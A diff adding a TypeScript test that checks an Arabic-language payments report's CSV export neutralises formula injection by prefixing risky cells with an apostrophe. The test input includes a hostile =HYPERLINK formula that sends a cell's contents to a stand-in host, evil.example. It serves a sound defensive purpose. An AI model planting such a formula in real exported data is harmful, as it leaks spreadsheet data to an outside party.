@@ -1,3 +1,4 @@
+import { parse as parseCsv } from 'papaparse';
 import { sheetTablesCsv } from '../exports/sheet-table';
 import { Lbp } from '../money/lbp';
 import { Money } from '../money/money';
@@ -65,5 +66,31 @@ describe('the collection report as a sheet', () => {
       'اشتراكات الأمبير,بلا صندوق,10,0,10',
       '',
     ]);
+  });
+
+  it('downloads as CSV whose names stay data and whose amounts stay numbers, read by a real CSV parser', () => {
+    const hyperlink = '=HYPERLINK("http://evil.example/?x="&A1,"اضغط")';
+    const riskyRows = [row(hyperlink, 1, '-12.5', 0, '-12.5'), row('+961 3 123456', 1, '20', 0, '20')];
+    const risky = {
+      ...report,
+      query: { ...report.query, by: 'collector' as const },
+      rows: riskyRows,
+      totals: paymentsReportTotals(riskyRows),
+      boxes: [{ ...report.boxes[0], systemName: '-عميل', box: '@7' }],
+    };
+    const { data, errors } = parseCsv<(string | number)[]>(
+      sheetTablesCsv(paymentsReportSheets(risky)).replace(/^\uFEFF/, ''),
+      { dynamicTyping: true, skipEmptyLines: true },
+    );
+    expect(errors).toEqual([]);
+    expect(data).toEqual([
+      ['الجابي', 'عدد الدفعات', 'المجموع بالدولار', 'المقبوض بالدولار', 'المقبوض بالليرة'],
+      [`'${hyperlink}`, 1, -12.5, -12.5, 0],
+      ["'+961 3 123456", 1, 20, 20, 0],
+      ['المجموع', 2, 7.5, 7.5, 0],
+      ['النظام', 'الصندوق', 'فواتير الشهر بالدولار', 'المقبوض منها بالدولار', 'المتبقي على الزبائن بالدولار'],
+      ["'-عميل", "'@7", 100, 40.5, 79.5],
+    ]);
+    for (const cell of data.flat()) if (typeof cell === 'string') expect(cell).not.toMatch(/^[=+\-@\t\r]/);
   });
 });
